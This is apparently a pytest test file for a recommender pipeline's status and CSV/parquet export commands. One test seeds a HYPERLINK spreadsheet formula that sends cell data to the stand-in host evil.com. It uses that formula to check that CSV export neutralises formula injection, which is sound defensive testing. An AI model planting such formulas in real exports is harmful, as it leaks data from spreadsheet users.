"""skillpath status and export."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from skillpath.lock import run_lock
from skillpath.publish.commands import EXPORT_COLUMNS, export, render_status, status
from skillpath.publish.publication import Candidate, publish
from skillpath.settings import Settings
from skillpath.warehouse import connect
from tests.fixtures.ml.holdout import failing_evaluation, passing_evaluation
from tests.fixtures.publish.warehouse import candidate_frame, keys, seed_ingestion


def _publish(settings: Settings, tag: str, beats: bool = True):
    candidate = Candidate(
        candidate_frame(settings, tag=tag),
        model_version="7",
        model_evaluation=passing_evaluation() if beats else failing_evaluation(),
        run_id="run-1",
    )
    return publish(settings, candidate, promote=lambda uri, v: f"champion -> {v}")


@pytest.fixture
def settings(skillpath_env: Path) -> Settings:
    return Settings.from_env()


def test_status_on_an_empty_warehouse(settings: Settings, capsys) -> None:
    assert status(settings) == 0
    assert "nothing has been published yet" in capsys.readouterr().out
    seed_ingestion(settings)  # a warehouse, but no publication
    assert status(settings) == 0
    assert "nothing has been published yet" in capsys.readouterr().out


def test_status_shows_current_gates_and_the_latest_blocked(settings: Settings, capsys) -> None:
    seed_ingestion(settings)
    good = _publish(settings, "a")
    bad = _publish(settings, "b", beats=False)
    assert status(settings) == 0
    out = capsys.readouterr().out
    assert f"current publication: {good.publication_id}" in out
    assert "skillpath-recommender version 7" in out
    assert "[passed] data_quality" in out and "rows_in=100" in out
    assert "[NOT AUDITED] fairness" in out
    assert f"latest blocked publication: {bad.publication_id}" in out
    assert "[FAILED] model_quality: the published lists are below popularity" in out
    assert not any(k in out for k in keys(settings).values())


def test_the_summary_of_the_command_holding_the_lock_shows_the_publication(
    settings: Settings,
) -> None:
    """``skillpath run`` renders its summary while it holds the run-level lock: it must not
    read its own lock as another command's."""
    seed_ingestion(settings)
    good = _publish(settings, "a")
    with run_lock(settings, "skillpath run"):
        text = render_status(settings, brief=True)
    assert f"current publication: {good.publication_id}" in text
    assert "busy" not in text
    # the run's summary names each gate's verdict; its figures are for status and the report
    assert "[passed] data_quality" in text and "rows_in=" not in text


def test_export_nothing_published(settings: Settings, tmp_path: Path, capsys) -> None:
    assert export(settings, tmp_path / "out.csv") == 1
    assert "nothing has been published" in capsys.readouterr().err


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_export_round_trip(settings: Settings, tmp_path: Path, suffix: str) -> None:
    seed_ingestion(settings)
    result = _publish(settings, "a")
    with connect(settings.warehouse) as con:
        con.execute("create table marts.dim_content (content_id varchar, title varchar)")
        con.execute("insert into marts.dim_content values ('content-a-1', 'Intro, with comma')")
    out = tmp_path / f"recs.{suffix}"
    assert export(settings, out) == 0
    frame = pd.read_parquet(out) if suffix == "parquet" else pd.read_csv(out)
    assert tuple(frame.columns) == EXPORT_COLUMNS
    assert len(frame) == 6 and set(frame["publication_id"]) == {result.publication_id}
    published = candidate_frame(settings, tag="a")
    by_key = {k: e for e, k in keys(settings).items()}
    published["employee_id"] = published["person_key"].map(by_key)
    merged = frame.merge(published, on=["employee_id", "rank"], suffixes=("", "_pub"))
    assert len(merged) == 6
    assert (merged["content_id"] == merged["content_id_pub"]).all()
    assert (merged["personalised"] == merged["personalised_pub"]).all()
    assert (merged["reasons"] == merged["reasons_pub"]).all()
    titles = frame.set_index("content_id")["title"].to_dict()
    assert titles["content-a-1"] == "Intro, with comma"


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_export_neutralises_formulas_in_csv_only(
    settings: Settings, tmp_path: Path, suffix: str
) -> None:
    """Table row 13: a catalogue whose titles start with =HYPERLINK(…) was exported as
    is, a formula injection in HR's spreadsheet (OWASP CSV injection)."""
    seed_ingestion(settings)
    _publish(settings, "a")
    titles = {
        "content-a-1": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        "content-a-2": "+1 more",
        "content-a-3": "@SUM(1)",
    }
    with connect(settings.warehouse) as con:
        con.execute("create table marts.dim_content (content_id varchar, title varchar)")
        for content, title in titles.items():
            con.execute("insert into marts.dim_content values (?, ?)", [content, title])
    out = tmp_path / f"recs.{suffix}"
    assert export(settings, out) == 0
    frame = pd.read_parquet(out) if suffix == "parquet" else pd.read_csv(out)
    exported = frame.dropna(subset=["title"]).set_index("content_id")["title"].to_dict()
    prefix = "'" if suffix == "csv" else ""
    assert exported == {c: prefix + t for c, t in titles.items() if c in exported}
    assert exported  # the fixture's recommendations include these items
    assert pd.api.types.is_numeric_dtype(frame["score"]) and (frame["rank"] >= 1).all()


def test_neutralise_formulas_touches_only_text_cells() -> None:
    from skillpath.publish.csv_safety import neutralise_formulas

    frame = pd.DataFrame(
        {
            "text": ["=1+1", "-x", "\tTab", "\rCR", "plain", None, "a=b"],
            "number": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0],
        }
    )
    out = neutralise_formulas(frame)
    text = [None if pd.isna(v) else v for v in out["text"]]
    assert text == ["'=1+1", "'-x", "'\tTab", "'\rCR", "plain", None, "a=b"]
    assert list(out["number"]) == list(frame["number"])
